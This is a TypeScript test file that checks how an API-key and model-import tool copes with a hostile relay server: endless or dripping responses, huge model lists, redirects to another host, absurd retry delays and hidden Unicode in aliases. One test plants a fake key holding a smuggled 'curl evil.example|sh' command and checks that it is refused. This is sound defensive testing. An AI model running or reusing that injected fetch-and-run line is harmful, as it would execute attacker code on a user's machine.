import { describe, expect, test } from 'vitest';
import { MOST_MODELS } from '../../src/core/aliases/proposed-models';
import { BATCH_DEFAULTS } from '../../src/core/batch/batch';
import { fetchHttp } from '../../src/platform/fetch-http';
import { addKey } from '../../src/workflows/accounts/keep-keys';
import { findKey } from '../../src/workflows/accounts/find-key';
import { addAccount } from '../../src/workflows/accounts/keep-accounts';
import { revealKey } from '../../src/workflows/accounts/reveal-key';
import { openBatch } from '../../src/workflows/batch/open-batch';
import { importBatch } from '../../src/workflows/batch/import-batch';
import { relistModels } from '../../src/workflows/import/relist-models';
import { LINEAR } from '../core/growth';
import { DEFAULT_ACCESS_TOKEN, fakeKey } from '../fakes/new-api.ts';
import {
  accountAt,
  apply,
  must,
  never,
  opened,
  openImport,
  planDialog,
  planOf,
  scene,
  type Scene,
  SECOND_KEY,
  writes,
} from '../workflows/scene';
import { growthOf, hostileServer, sendJson, type HostileServer } from './server';

const DAY = 24 * 60 * 60 * 1000;
const MEGABYTE = 1024 * 1024;

/** A key at the hostile relay, and what its list of models comes to. */
async function at(
  { origin }: HostileServer,
  made: Scene,
): Promise<{ keyId: string; list(): ReturnType<typeof relistModels> }> {
  const keyId = must(await addKey(made.ports, { relayName: 'Hostile', baseUrl: origin, key: SECOND_KEY }));
  return { keyId, list: () => relistModels(made.ports, keyId, `${origin}/v1`) };
}

describe('a hostile relay', () => {
  test('that never stops sending is cut off', async () => {
    let sent = 0;
    const relay = await hostileServer((_, response) => {
      const chunk = Buffer.alloc(MEGABYTE, ' ');
      const more = (): void => {
        while (!response.destroyed && response.write(chunk)) sent++;
        sent++;
      };
      response.on('drain', more);
      more();
    });
    const { list } = await at(relay, await scene());
    expect(await list()).toMatchObject({ failure: { code: 'relay-too-large' } });
    expect(sent).toBeLessThan(64);
  });

  test('that sends a byte now and then is given up when the time of the whole is over', async () => {
    const relay = await hostileServer((_, response) => {
      response.writeHead(200, { 'content-type': 'application/json' });
      const drip = setInterval(() => response.write(' '), 20);
      response.on('close', () => clearInterval(drip));
    });
    const reply = await fetchHttp.send({ method: 'GET', url: `${relay.origin}/v1/models`, timeoutMs: 200 });
    expect(reply).toMatchObject({ failure: { code: 'timeout' } });
  });

  test('with 100,000 models is read and planned in time that grows with their number', async () => {
    // Servers of its own for each size: a thread that is busy for seconds loses the connections it had.
    const growth = await growthOf(async (size) => {
      const relay = await hostileServer((_, response) =>
        sendJson(response, { data: Array.from({ length: size }, (__, n) => ({ id: `model-${n}` })) }),
      );
      const made = await scene();
      const { keyId } = await at(relay, made);
      expect(must(await openImport(made.ports, new Map(), keyId)).models).toMatchObject({ kind: 'listed' });
    }, 100_000);
    expect(growth).toBeLessThan(LINEAR);
  });

  describe('with 100,000 models', () => {
    const endless = (): Promise<HostileServer> =>
      hostileServer((_, response) =>
        sendJson(response, { data: Array.from({ length: 100_000 }, (__, n) => ({ id: `model-${n}` })) }),
      );

    test('brings the first 5,000 by itself, and what the browser keeps has room for them', async () => {
      const made = await scene();
      made.device.room = 10 * MEGABYTE;
      const { keyId } = await at(await endless(), made);
      const open = await opened(made.ports, keyId);
      expect(open.models).toMatchObject({ names: { length: 100_000 } });
      expect(open.draft.models).toHaveLength(MOST_MODELS);
      expect(await apply(made.ports, keyId, open.draft, planOf(open).hash)).toMatchObject({ kind: 'proved' });
      expect(made.device.local.get('journal')!.length).toBeLessThan(2 * MEGABYTE);
    });

    test('all chosen by hand are refused with how many may be', async () => {
      const made = await scene();
      const { keyId } = await at(await endless(), made);
      const open = await opened(made.ports, keyId);
      if (open.models.kind !== 'listed') throw new Error('not listed');
      const models = open.models.names.map((name) => ({ name, alias: name, typed: false }));
      expect(await planDialog(made.ports, new Map(), keyId, { ...open.draft, models })).toEqual({
        kind: 'failed',
        failure: { code: 'too-many-models', chosen: 100_000, most: MOST_MODELS },
      });
    });

    test('takes no other key of a batch down with it', async () => {
      const made = await scene();
      made.device.room = 10 * MEGABYTE;
      const { keyId } = await at(await endless(), made);
      const keyIds = [keyId, made.keyId];
      const batches = new Map();
      const view = must(await openBatch(made.ports, batches, { batchId: 'b', keyIds }, never()));
      expect(view).toMatchObject({ beyond: { models: 95_000, names: ['Hostile'] }, dropped: 0, keys: 2 });
      const order = { batchId: 'b', batch: batches.get('b'), options: BATCH_DEFAULTS, hash: view.hash };
      const outcome = await importBatch(made.ports, { ...order, signal: never() });
      expect(outcome).toMatchObject({ kind: 'done', served: 2, total: 2 });
    });
  });

  test('whose names are as long as books brings none of those', async () => {
    const relay = await hostileServer((_, response) =>
      sendJson(response, { data: [{ id: 'a'.repeat(MEGABYTE) }, { id: 'short' }] }),
    );
    const { list } = await at(relay, await scene());
    expect(must(await list()).names).toEqual(['short']);
  });

  test.each([
    ['addresses that never end', '://a:'],
    ['blanks', ' \t'],
    ['half a key', 'sk-'],
    ['signs at', '@'],
    ['brackets', '{"a":['],
  ])('whose refusal is made of %s holds nobody up', async (_, piece) => {
    let size = 0;
    const relay = await hostileServer((__, response) =>
      sendJson(response, { error: { message: piece.repeat(size / piece.length) } }, 401),
    );
    const { list } = await at(relay, await scene());
    const growth = await growthOf(async (chars) => {
      size = chars;
      expect(await list()).toMatchObject({ ok: false });
    }, 4 * MEGABYTE);
    expect(growth).toBeLessThan(LINEAR);
  });

  test('that redirects to another host does not bring the key there', async () => {
    const other = await hostileServer((_, response) => sendJson(response, { data: [] }));
    const relay = await hostileServer((_, response) =>
      response.writeHead(307, { location: `${other.origin}/v1/models` }).end(),
    );
    const { list } = await at(relay, await scene());
    expect(await list()).toMatchObject({ ok: false });
    expect(relay.asked).not.toEqual([]);
    expect(other.asked).toEqual([]);
  });

  test('that asks to wait for years is asked again after a day', async () => {
    const relay = await hostileServer((_, response) =>
      response.writeHead(429, { 'retry-after': '99999999999' }).end(),
    );
    const made = await scene();
    const login = { name: '', siteUrl: relay.origin, accessToken: DEFAULT_ACCESS_TOKEN, userId: '2' };
    must(await addAccount(made.ports, login));
    const waits = Object.values(must(await made.ports.saved.read()).waits);
    expect(waits).toHaveLength(1);
    for (const until of waits) expect(until).toBeLessThanOrEqual(made.clock.now() + DAY);
  });

  test('that reveals a command in place of a key gives nothing away', async () => {
    const made = await scene();
    must(await accountAt(made));
    const [account] = must(await made.ports.saved.read()).accounts;
    const listed = account?.keys[0];
    let told = '';
    const http: typeof fetchHttp = {
      async send(request) {
        const reply = await made.ports.http.send(request);
        if (!reply.ok || !request.url.includes('/key')) return reply;
        const text = reply.value.text.replace(/"key":"[^"]*"/, '"key":"Labk0001\\ncurl evil.example|sh\\n#"');
        told = text;
        return { ok: true, value: { ...reply.value, text } };
      },
    };
    const key = must(await findKey(made.ports, `${account?.id}/${listed?.remoteId}`));
    expect(await revealKey({ ...made.ports, http }, key)).toMatchObject({
      failure: { code: 'key-unrevealed' },
    });
    expect(told).toContain('curl');
    expect(Object.values(must(await made.ports.session.read()).revealed).join()).not.toContain('curl');
  });

  test('whose names fill the storage leaves room, and all that was there stays', async () => {
    const long = '\u202e\0'.repeat(25_000);
    const keys = Array.from({ length: 40 }, (_, n) => ({
      id: n + 1,
      name: long,
      group: long,
      key: fakeKey('x', n),
    }));
    const made = await scene({ relay: { keys } });
    must(await accountAt(made));
    const saved = must(await made.ports.saved.read());
    expect(saved.accounts[0]?.keys).toHaveLength(40);
    expect(JSON.stringify(saved).length).toBeLessThan(MEGABYTE);
    expect(saved.keys).toHaveLength(1);
  });

  test.each(['\u202egpt', 'gpt\u200b', 'gpt\u0085'])(
    'no alias of hidden signs is written: %j',
    async (alias) => {
      const made = await scene();
      const open = await opened(made.ports, made.keyId);
      const draft = { ...open.draft, models: [{ name: 'gpt-4o', alias, typed: true }] };
      expect(await apply(made.ports, made.keyId, draft, planOf(open).hash)).toMatchObject({ kind: 'failed' });
      expect(writes(made.proxy)).toEqual([]);
    },
  );
});
